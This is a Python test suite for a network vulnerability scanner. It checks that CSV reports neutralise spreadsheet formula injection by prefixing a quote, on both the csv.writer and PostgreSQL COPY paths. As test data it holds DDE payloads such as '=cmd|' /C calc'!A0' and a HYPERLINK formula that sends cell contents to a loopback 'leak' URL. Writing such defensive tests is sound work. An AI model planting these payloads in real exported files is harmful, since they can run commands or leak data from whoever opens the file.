"""CSV reports never hand a spreadsheet a formula: a text cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a ``'`` in front, on
both ways the file is written (csv.writer, and PostgreSQL's COPY).

The payloads come from where an attacker without credentials puts them: the
banner of a real loopback service that nmap's service detection turns into the
host's OS (and so the OS finding's evidence), scanned by the real engine and
recorded by the real ingest; and from names (network, DNS, NetBIOS, KB title,
tags)."""

import dataclasses
import random

import pytest
from django.db import connection
from django.utils import timezone

from core.results import SliceSpec
from core.spreadsheet import FORMULA_TRIGGERS, spreadsheet_safe
from reports import services
from reports.models import ReportStatus
from scans import services as scan_services
from scans.engine.checks import http, info
from scans.engine.runner import run_slice
from scans.models import Scan
from tests.factories import (
    ApplianceFactory,
    DetectionFactory,
    HostFactory,
    NetworkFactory,
    TagFactory,
    VulnerabilityFactory,
)

from .helpers import GreetingService, csv_rows

pytestmark = pytest.mark.django_db

ALL = ["new", "active", "reopened", "fixed"]
POSTGRESQL = connection.vendor == "postgresql"

CALC = "=cmd|' /C calc'!A0"
SUM_CALC = "@SUM(1+9)*cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/leak?x="&A1,"Click for details")'

QID_SERVICE, QID_OS, QID_HTTP_SERVER_INFO = info.QID_SERVICE, info.QID_OS, http.QID_SERVER_INFO


@pytest.fixture(
    params=[
        "csv.writer",
        pytest.param(
            "COPY", marks=pytest.mark.skipif(not POSTGRESQL, reason="COPY is PostgreSQL's")
        ),
    ]
)
def csv_path(request, settings):
    """Each test runs on the portable path and, on PostgreSQL, on COPY too."""
    settings.ENCLAVE_REPORT_CSV_NO_COPY = request.param == "csv.writer"
    return request.param


def csv_report(actor, **kwargs):
    kwargs.setdefault("title", "Formulas")
    kwargs.setdefault("statuses", ALL)
    report = services.report_create(actor=actor, format="csv", **kwargs)
    report = services.report_generate(report=report)
    assert report.status == ReportStatus.FINISHED, report.error
    return report


def assert_no_formula(rows):
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_TRIGGERS), (column, cell)


# --- the rule ----------------------------------------------------------------------


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_formula_start_gets_a_quote(trigger):
    assert spreadsheet_safe(trigger + "1+1") == "'" + trigger + "1+1"


@pytest.mark.parametrize(
    "value",
    ["", "web.alpha.example", "10.0.0.5", "a=b", "Status: 200\n=cmd", "'=1+1", " =1", "CVE-1"],
)
def test_values_a_spreadsheet_reads_as_text_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value


# --- payloads from a real scanned service ---------------------------------------------


def serviio_banner(os_name: str) -> bytes:
    # nmap's probe file names this answer "Serviio media server httpd" and takes
    # the OS from the Server header, up to the first comma.
    return (
        f"HTTP/1.0 400 Bad Request\r\nServer: {os_name}, UPnP/1.0 DLNADOC/1.50, Serviio/1.9\r\n\r\n"
    ).encode()


@pytest.fixture(scope="module")
def scanned():
    """Two hosts on loopback whose banners make nmap -sV report a formula as their
    OS, scanned once by the real engine; returns (their IPs, the slice result)."""
    first = f"127.{random.randint(64, 250)}.{random.randint(1, 250)}.{random.randint(2, 125)}"
    second = first.rsplit(".", 1)[0] + "." + str(int(first.rsplit(".", 1)[1]) + 100)
    with (
        GreetingService(first, serviio_banner(CALC)) as a,
        GreetingService(second, serviio_banner(SUM_CALC)) as b,
    ):
        spec = SliceSpec(
            scan_id=0,
            slice_id=0,
            scan_type="vulnerability",
            targets=[first, second],
            tcp_ports=f"{a.port},{b.port}",
            host_timeout=60,
        )
        result = run_slice(spec, appliance="lab-formulas")
    assert result.error == ""
    assert {h.ip: h.os for h in result.hosts} == {first: CALC, second: SUM_CALC}
    return (first, second), result


def ingest(network, ips, result):
    """Launches a scan of ``ips`` in ``network`` and records ``result`` as its slice
    (the slice's message to the appliance goes on commit: never, in a test's transaction)."""
    appliance = ApplianceFactory(name="lab-formulas", network=network, last_seen=timezone.now())
    scan: Scan = scan_services.scan_launch(
        actor=None,
        title="Banners",
        type="vulnerability",
        network=network,
        targets=",".join(ips),
    )
    piece = scan.slices.get()
    assert piece.appliance == appliance
    outcome = scan_services.slice_ingest(
        result=dataclasses.replace(result, scan_id=scan.pk, slice_id=piece.pk)
    )
    assert outcome.ingested


@pytest.mark.e2e
def test_a_scanned_banner_cannot_plant_a_formula(scanned, csv_path, manager):
    (first, second), result = scanned
    lab = NetworkFactory(name="Lab", space="127.0.0.0/8")
    ingest(lab, (first, second), result)

    rows = csv_rows(csv_report(manager, targets=f"{first},{second}").file.path)
    assert_no_formula(rows)
    by_host = {ip: [r for r in rows if r["IP"] == ip] for ip in (first, second)}
    assert by_host[first] and by_host[second]
    # The OS column of every finding of each host, and the OS finding's evidence.
    assert {r["OS"] for r in by_host[first]} == {"'" + CALC}
    assert {r["OS"] for r in by_host[second]} == {"'" + SUM_CALC}
    for ip, payload in ((first, CALC), (second, SUM_CALC)):
        os_finding = next(r for r in by_host[ip] if r["QID"] == str(QID_OS))
        assert os_finding["Results"] == "'" + payload
        # A cell where the payload does not come first is already safe: unchanged.
        service = next(r for r in by_host[ip] if r["QID"] == str(QID_SERVICE))
        assert service["Results"] == (
            "http: Serviio media server httpd 1.9 (UPnP/1.0 DLNADOC/1.50)"
        )
        server_info = next(r for r in by_host[ip] if r["QID"] == str(QID_HTTP_SERVER_INFO))
        assert server_info["Results"].startswith("Status: 400 Bad Request\nServer: " + payload)
        assert {r["Network"] for r in by_host[ip]} == {"Lab"}
        assert {r["Protocol"] for r in by_host[ip] if r["Port"]} == {"tcp"}


# --- payloads from names --------------------------------------------------------------


@pytest.fixture
def named_formulas(db):
    """A host whose every name is a formula, and one whose names are plain."""
    evil_net = NetworkFactory(name=HYPERLINK, space="10.0.0.0/16")
    plain_net = NetworkFactory(name="Beta Inc", space="10.0.0.0/16")
    tag = TagFactory(name='=HYPERLINK("http://127.0.0.1:9/","tag")')
    evil_vuln = VulnerabilityFactory(
        qid=938500,
        title="+cmd|' /C calc'!A0",
        severity=4,
        cves=["-2+3+cmd|' /C calc'!A0", "CVE-2024-0001"],
    )
    plain_vuln = VulnerabilityFactory(
        qid=938501, title="Telnet Service Enabled", severity=3, cves=["CVE-2024-0002"]
    )
    evil = HostFactory(
        network=evil_net,
        ip="10.0.0.5",
        dns=SUM_CALC,
        netbios="-1",
        os="\t=1+1",
    )
    evil.tags.add(tag)
    plain = HostFactory(
        network=plain_net, ip="10.0.0.5", dns="db.beta.example", netbios="DB01", os="Debian 12"
    )
    plain.tags.add(tag)
    DetectionFactory(
        host=evil, vulnerability=evil_vuln, port=443, protocol="tcp", results="\r=1+1\nmore"
    )
    DetectionFactory(
        host=plain, vulnerability=plain_vuln, port=23, protocol="tcp", results="a=b, -c"
    )
    return {"tag": tag, "evil_net": evil_net}


def test_names_cannot_plant_a_formula(named_formulas, csv_path, manager):
    report = csv_report(manager, targets="10.0.0.5", tags=[named_formulas["tag"]])
    rows = csv_rows(report.file.path)
    assert_no_formula(rows)
    evil, plain = sorted(rows, key=lambda r: r["Network"] == "Beta Inc")
    assert evil == {
        **evil,
        "Network": "'" + HYPERLINK,
        "IP": "10.0.0.5",
        "DNS": "'" + SUM_CALC,
        "NetBIOS": "'-1",
        "OS": "'\t=1+1",
        "Title": "'+cmd|' /C calc'!A0",
        "CVEs": "'-2+3+cmd|' /C calc'!A0 CVE-2024-0001",
        "Results": "'\r=1+1\nmore",
    }
    # Numbers Enclave writes stay numbers; plain text stays as it was.
    assert (evil["QID"], evil["Severity"], evil["Port"], evil["Times found"]) == (
        "938500",
        "4",
        "443",
        "1",
    )
    assert {k: plain[k] for k in ("Network", "DNS", "NetBIOS", "OS", "Title", "CVEs")} == {
        "Network": "Beta Inc",
        "DNS": "db.beta.example",
        "NetBIOS": "DB01",
        "OS": "Debian 12",
        "Title": "Telnet Service Enabled",
        "CVEs": "CVE-2024-0002",
    }
    assert plain["Results"] == "a=b, -c" and plain["Status"] == "New"
    # The tag chose the hosts; its name is in no cell of the file.
    assert not any('"tag")' in cell for row in rows for cell in row.values())


@pytest.mark.skipif(not POSTGRESQL, reason="COPY is PostgreSQL's")
def test_copy_neutralises_exactly_as_csv_writer_does(named_formulas, manager, settings):
    VulnerabilityFactory(qid=938502, title="@x", severity=2, cves=["", "=1"])
    net = named_formulas["evil_net"]
    host = HostFactory(network=net, ip="10.0.0.6", dns="-", netbios="", os="+")
    DetectionFactory(host=host, vulnerability_id=938502, protocol="+udp", results="@")
    kwargs = {"targets": "10.0.0.0/24", "sort": "vulnerability"}
    copied = csv_rows(csv_report(manager, **kwargs).file.path)
    settings.ENCLAVE_REPORT_CSV_NO_COPY = True
    written = csv_rows(csv_report(manager, **kwargs).file.path)
    assert copied == written and len(copied) == 3
    assert_no_formula(copied)
    odd = next(r for r in copied if r["QID"] == "938502")
    assert (odd["DNS"], odd["OS"], odd["Title"], odd["Protocol"], odd["Results"], odd["CVEs"]) == (
        "'-",
        "'+",
        "'@x",
        "'+udp",
        "'@",
        " =1",  # the list starts with an empty CVE: a space first, not a formula
    )
